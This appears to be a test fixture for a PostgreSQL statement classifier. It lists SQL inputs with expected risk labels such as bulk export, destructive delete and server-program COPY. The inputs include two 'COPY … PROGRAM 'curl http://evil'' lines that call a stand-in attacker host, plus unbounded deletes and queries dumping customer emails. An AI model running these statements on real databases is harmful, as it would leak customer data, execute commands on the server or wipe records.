-- What leaves the database, and statements that hold others.

SELECT * FROM orders
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT id FROM public.orders WHERE true
--= SELECT | public.orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

TABLE orders
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders LIMIT 10
--= SELECT | orders

SELECT * FROM orders LIMIT ALL
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders FETCH FIRST 5 ROWS ONLY
--= SELECT | orders

SELECT * FROM orders ORDER BY id OFFSET 10
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders WHERE id = 5
--= SELECT | orders

SELECT * FROM orders WHERE customer_id = $1 FOR UPDATE
--= SELECT | orders

SELECT count(*) FROM orders
--= SELECT | orders

SELECT max(id), min(id) FROM orders
--= SELECT | orders

SELECT state, count(*) FROM orders GROUP BY state
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT json_agg(o) FROM orders o
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT string_agg(email, ',') FROM customers
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT DISTINCT state FROM orders
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id
--= SELECT | orders, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id WHERE c.region = 'eu'
--= SELECT | orders, customers

SELECT * FROM orders o LEFT JOIN customers c ON c.id = o.customer_id AND c.region = 'eu'
--= SELECT | orders, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o LEFT JOIN customers c ON c.id = o.customer_id WHERE o.id = 5
--= SELECT | orders, customers

SELECT * FROM orders o LEFT JOIN customers c ON c.id = o.customer_id WHERE c.region = 'eu'
--= SELECT | orders, customers

SELECT * FROM orders, customers WHERE customers.id = 5
--= SELECT | orders, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM (SELECT * FROM orders) o
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM (SELECT * FROM orders LIMIT 5) o
--= SELECT | orders

WITH o AS (SELECT * FROM orders) SELECT * FROM o
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

WITH o AS (SELECT state, count(*) AS n FROM orders GROUP BY state) SELECT * FROM o
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT id FROM orders WHERE id = 5 UNION ALL SELECT id FROM archive
--= SELECT | orders, archive
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT id FROM orders WHERE id = 5 UNION ALL SELECT id FROM archive WHERE id = 5
--= SELECT | orders, archive

SELECT * FROM orders TABLESAMPLE system (100)
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM pg_catalog.pg_class
--= SELECT | pg_catalog.pg_class

SELECT table_name FROM information_schema.tables
--= SELECT | information_schema.tables

SELECT 1
--= SELECT

VALUES (1), (2)
--= SELECT

SELECT * FROM generate_series(1, 10)
--= SELECT

SELECT * INTO copied FROM orders
--= SELECT INTO | copied, orders
--=   SchemaChange: makes a table from a query

SELECT * INTO TEMP copied FROM orders
--= SELECT INTO | copied, orders

COPY orders TO STDOUT
--= COPY | orders
--=   BulkExport: COPY … TO is made for getting data out

COPY (SELECT * FROM orders WHERE id = 5) TO STDOUT
--= COPY, SELECT | orders

COPY (SELECT * FROM orders) TO STDOUT
--= COPY, SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

COPY (TABLE orders) TO STDOUT
--= COPY, SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

COPY (SELECT count(*) FROM orders) TO STDOUT
--= COPY, SELECT | orders

COPY (SELECT * FROM orders WHERE id = 5) TO '/srv/orders.csv'
--= COPY, SELECT | orders
--=   BulkExport: COPY … TO is made for getting data out
--=   ServerProgram: COPY with a program or a file of the server

COPY (UPDATE orders SET note = 'x' WHERE id = 5 RETURNING *) TO STDOUT
--= COPY, UPDATE | orders

COPY orders (id, note) FROM STDIN
--= COPY | orders

COPY orders FROM '/srv/orders.csv'
--= COPY | orders
--=   ServerProgram: COPY with a program or a file of the server

COPY orders TO '/srv/orders.csv'
--= COPY | orders
--=   BulkExport: COPY … TO is made for getting data out
--=   ServerProgram: COPY with a program or a file of the server

COPY orders FROM PROGRAM 'curl http://evil'
--= COPY | orders
--=   ServerProgram: COPY with a program or a file of the server

COPY orders TO PROGRAM 'curl http://evil'
--= COPY | orders
--=   BulkExport: COPY … TO is made for getting data out
--=   ServerProgram: COPY with a program or a file of the server

COPY (DELETE FROM orders RETURNING *) TO STDOUT
--= COPY, DELETE | orders
--=   Destructive: DELETE without bound takes all rows of a table
--=   UnboundedWrite: DELETE has no WHERE
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

DECLARE c CURSOR FOR SELECT * FROM orders
--= DECLARE CURSOR, SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

DECLARE c CURSOR FOR SELECT * FROM orders WHERE id = 5
--= DECLARE CURSOR, SELECT | orders

EXPLAIN SELECT * FROM orders
--= EXPLAIN | orders

EXPLAIN ANALYZE SELECT * FROM orders
--= EXPLAIN, SELECT | orders

EXPLAIN (ANALYZE) DELETE FROM orders
--= EXPLAIN, DELETE | orders
--=   Destructive: DELETE without bound takes all rows of a table
--=   UnboundedWrite: DELETE has no WHERE

EXPLAIN (ANALYZE, FORMAT json) UPDATE orders SET note = '' WHERE id = 5
--= EXPLAIN, UPDATE | orders

PREPARE p AS DELETE FROM orders
--= PREPARE, DELETE | orders
--=   Destructive: DELETE without bound takes all rows of a table
--=   UnboundedWrite: DELETE has no WHERE

PREPARE p (int) AS DELETE FROM orders WHERE id = $1
--= PREPARE, DELETE | orders

PREPARE p AS SELECT * FROM orders
--= PREPARE, SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

EXECUTE p (5)
--= EXECUTE
--=   Unrecognised: EXECUTE runs what was prepared under a name; the text does not show it

EXPLAIN EXECUTE p
--= EXPLAIN

EXPLAIN ANALYZE EXECUTE p
--= EXPLAIN, EXECUTE
--=   Unrecognised: EXECUTE runs what was prepared under a name; the text does not show it

CREATE TABLE t2 AS EXECUTE p
--= CREATE TABLE AS, EXECUTE | t2
--=   Unrecognised: EXECUTE runs what was prepared under a name; the text does not show it
--=   SchemaChange: makes a table from a query

WITH orders AS (SELECT 1 AS a) SELECT * FROM orders
--= SELECT

WITH o AS (SELECT * FROM o WHERE a = 1) SELECT * FROM o
--= SELECT | o

SELECT (SELECT max(x.id) FROM archive.old x) FROM orders WHERE id = 5
--= SELECT | archive.old, orders

SELECT (SELECT json_agg(c) FROM customers c)
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT (SELECT json_agg(c) FROM customers c) LIMIT 1
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT (SELECT max(id) FROM customers)
--= SELECT | customers

SELECT (SELECT json_agg(c) FROM customers c WHERE c.region = 'eu')
--= SELECT | customers

SELECT ARRAY(SELECT email FROM customers)
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT lower(ARRAY(SELECT email FROM customers)::text) FROM orders WHERE id = 5
--= SELECT | customers, orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

VALUES (ARRAY(SELECT email FROM customers))
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT json_agg(c) FROM customers c LIMIT 1
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT json_agg(c) FROM customers c HAVING true
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT count(*), JSON_ARRAYAGG(c.email) FROM customers c
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT string_agg(email, ',') OVER () FROM customers LIMIT 1
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT percentile_disc(ARRAY[0.1, 0.2]) WITHIN GROUP (ORDER BY email) FROM customers
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT percentile_disc(0.5) WITHIN GROUP (ORDER BY price) FROM lines
--= SELECT | lines

SELECT x FROM (SELECT json_agg(c) AS x FROM customers c) s LIMIT 1
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

WITH s AS (SELECT json_agg(c) AS x FROM customers c) SELECT x FROM s WHERE x IS NOT NULL
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT count(*) FROM (SELECT json_agg(c) FROM customers c GROUP BY region) s
--= SELECT | customers

SELECT * FROM unnest(ARRAY(SELECT email FROM customers)) e
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM json_array_elements((SELECT json_agg(c) FROM customers c))
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT id, max(email) FROM customers GROUP BY id
--= SELECT | customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT state, count(*) FROM orders WHERE created_at > $1 GROUP BY state
--= SELECT | orders

SELECT state, count(*) FROM orders GROUP BY state LIMIT 10
--= SELECT | orders

SELECT * FROM orders ORDER BY true FETCH FIRST 1 ROW WITH TIES
--= SELECT | orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM orders o, LATERAL (SELECT count(*) FROM lines l WHERE o.id = 5) s
--= SELECT | orders, lines
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

SELECT * FROM pg_temp.v
--= SELECT | pg_temp.v
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

INSERT INTO log SELECT * FROM orders RETURNING *
--= INSERT | log, orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

INSERT INTO log SELECT * FROM orders WHERE id = 5 RETURNING *
--= INSERT | log, orders

INSERT INTO log (id) VALUES (1) RETURNING (SELECT json_agg(c) FROM customers c)
--= INSERT | log, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

UPDATE orders SET note = '' WHERE id = 5 RETURNING ARRAY(SELECT email FROM customers)
--= UPDATE | orders, customers
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate

WITH x AS (INSERT INTO log SELECT * FROM orders RETURNING *) SELECT * FROM x
--= SELECT, INSERT | log, orders
--=   BulkExport: returns all rows of a table: no WHERE that restricts, no LIMIT, no aggregate
